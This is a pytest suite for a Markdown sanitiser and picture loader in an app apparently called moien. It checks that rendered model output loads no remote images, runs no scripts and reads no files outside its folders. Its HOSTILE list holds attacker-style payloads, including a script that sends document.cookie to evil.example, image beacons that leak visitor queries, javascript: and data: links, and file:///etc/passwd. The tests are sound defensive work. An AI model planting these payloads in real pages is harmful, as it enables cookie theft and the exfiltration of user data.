"""Metadata and model output reach the browser without any remote resource: Markdown images become text, raw
HTML is shown escaped, script and data links stay plain text; pictures come only from moien's own image folders
and only when they are pictures. Hostile inputs, as an attacker would write them."""

from __future__ import annotations

import io
from html.parser import HTMLParser
from pathlib import Path

import pytest

from moien.ui.common import md_text, picture_roots, safe_markdown, safe_picture

#: tags that make a browser load something (or run something) by themselves
LOADING_TAGS = {"img", "iframe", "script", "style", "link", "video", "audio", "source", "object", "embed", "svg",
                "image", "input", "frame", "meta", "base", "picture", "track", "form"}  # fmt: skip
LINK_SCHEMES = ("http://", "https://", "mailto:", "/", "#")


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def tags(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = Tags()
    parser.feed(html)
    return parser.tags


def assert_fetches_nothing(html: str) -> None:
    for tag, attrs in tags(html):
        assert tag not in LOADING_TAGS, html
        assert not {"src", "srcset", "style", "background", "poster", "data"} & attrs.keys(), html
        assert not any(k.startswith("on") for k in attrs), html
        if tag == "a":
            assert (attrs.get("href") or "").lower().startswith(LINK_SCHEMES), html
            assert "noreferrer" in (attrs.get("rel") or "")
    assert "\n\n" not in html  # a blank line would let Streamlit read the rest as Markdown again


HOSTILE = [
    "![logo](https://evil.example/x.png?q=what+the+visitor+asked)",
    "![a][1]\n\n[1]: http://evil.example/ref.png",
    "![a][]\n\n[a]: http://evil.example/collapsed.png",
    "![a]\n\n[a]: <http://evil.example/shortcut.png> 'title'",
    "Text ![nested ![inner](http://evil.example/i.png)](http://evil.example/o.png) more",
    "![x](<http://evil.example/with space.png>)",
    "![x](http://evil.example/&#x78;.png)",
    '<img src="http://evil.example/raw.png">',
    "inline <img src=http://evil.example/inline.png onerror=alert(1)> html",
    "<iframe src='https://evil.example/frame'></iframe>",
    '<div style="background:url(http://evil.example/bg.png)">x</div>',
    "<video poster=http://evil.example/p.png></video>",
    "<svg><image href=http://evil.example/s.png /></svg>",
    "<script>fetch('http://evil.example/'+document.cookie)</script>",
    "<link rel=prefetch href=http://evil.example/pf>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#115;cript:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](file:///etc/passwd)",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![pixel](data:image/png;base64,iVBORw0KGgo=)",
    "<javascript:alert(1)>",
    "[r][x]\n\n[x]: javascript:alert(1)",
    "```\nblock one\n\n\n<img src=http://evil.example/code.png>\n```\n\n![after](http://evil.example/after.png)",
    "| a | b |\n|---|---|\n| ![c](http://evil.example/cell.png) | <img src=x> |",
    "> quote ![q](http://evil.example/q.png)\n>\n> - list ![l](http://evil.example/l.png)",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_fetches_nothing(text: str) -> None:
    html = safe_markdown(text)
    assert_fetches_nothing(html)
    assert "evil.example/" not in "".join(str(v) for _, attrs in tags(html) for v in attrs.values())


def test_images_become_their_alt_text() -> None:
    assert "[🖼 Villa Vauban]" in safe_markdown("![Villa Vauban](http://x.example/v.png)")
    assert "[🖼 a]" in safe_markdown("![a][1]\n\n[1]: http://x.example/y.png")
    assert "🖼" in safe_markdown("![](http://x.example/y.png)")


def test_raw_html_is_shown_as_text() -> None:
    html = safe_markdown("<img src=x> & <b>bold</b>")
    assert "&lt;img src=x&gt;" in html and "&lt;b&gt;" in html


def test_ordinary_markdown_still_formats_and_links_stay_links() -> None:
    html = safe_markdown(
        "# Plan\n\n**Ziel**: *lesen*\n\n- eins\n- zwee\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
        "[Musée](https://mnha.lu/fr) <https://www.bnl.lu> [mail](mailto:info@example.lu)\n\n```\nx = 1\n\ny = 2\n```"
    )
    names = [t for t, _ in tags(html)]
    for tag in ("h1", "strong", "em", "ul", "li", "table", "td", "a", "pre", "code"):
        assert tag in names
    hrefs = [a.get("href") for t, a in tags(html) if t == "a"]
    assert hrefs == ["https://mnha.lu/fr", "https://www.bnl.lu", "mailto:info@example.lu"]
    assert_fetches_nothing(html)


def test_script_links_stay_visible_as_text() -> None:
    html = safe_markdown("[click](javascript:alert(1))")
    assert "<a" not in html and "javascript:alert(1)" in html


def test_md_text_shows_metadata_as_written() -> None:
    escaped = md_text("![x](http://evil.example/t.png) <img src=y> $x$ :red[z] *a* `c`")
    # every Markdown character is escaped: rendered by a CommonMark renderer, it is plain text again
    from markdown_it import MarkdownIt

    html = MarkdownIt("commonmark").render(escaped)
    assert "<img" not in html and "<em>" not in html and "<code>" not in html and "<a" not in html
    assert "![x](http://evil.example/t.png)" in html


# --- pictures -------------------------------------------------------------------------------------------


def _png(path: Path) -> Path:
    from PIL import Image

    path.parent.mkdir(parents=True, exist_ok=True)
    buf = io.BytesIO()
    Image.new("RGB", (4, 3), (10, 200, 10)).save(buf, format="PNG")
    path.write_bytes(buf.getvalue())
    return path


def test_pictures_inside_moiens_folders_are_shown(tmp_path: Path) -> None:
    home = tmp_path / "home"
    roots = picture_roots(home)
    pic = _png(roots[0] / "abc.png")
    assert safe_picture(pic, roots) == pic.resolve()
    assert safe_picture(str(pic), roots) == pic.resolve()
    demo = sorted(roots[1].glob("*.png"))
    assert demo and safe_picture(demo[0], roots) == demo[0].resolve()  # the shipped demo keeps its pictures


def test_files_outside_the_folders_are_refused(tmp_path: Path) -> None:
    roots = picture_roots(tmp_path / "home")
    outside = _png(tmp_path / "elsewhere" / "x.png")
    assert safe_picture(outside, roots) is None
    assert safe_picture("/etc/passwd", roots) is None
    assert safe_picture(roots[0] / ".." / ".." / ".." / "elsewhere" / "x.png", roots) is None  # ../ out
    roots[0].mkdir(parents=True, exist_ok=True)
    link = roots[0] / "link.png"
    link.symlink_to(outside)  # a link inside pointing out
    assert safe_picture(link, roots) is None


@pytest.mark.parametrize(
    "content",
    [b"not a picture at all", b"\x89PNG\r\n\x1a\n" + b"\0" * 40, b"<svg xmlns='http://www.w3.org/2000/svg'/>", b""],
)
def test_non_pictures_inside_the_folder_are_refused(tmp_path: Path, content: bytes) -> None:
    roots = picture_roots(tmp_path / "home")
    roots[0].mkdir(parents=True)
    fake = roots[0] / "fake.png"
    fake.write_bytes(content)
    assert safe_picture(fake, roots) is None


def test_missing_or_empty_paths_are_refused(tmp_path: Path) -> None:
    roots = picture_roots(tmp_path / "home")
    assert safe_picture(None, roots) is None
    assert safe_picture("", roots) is None
    assert safe_picture(roots[0] / "gone.png", roots) is None
    roots[0].mkdir(parents=True)
    assert safe_picture(roots[0], roots) is None  # the folder itself
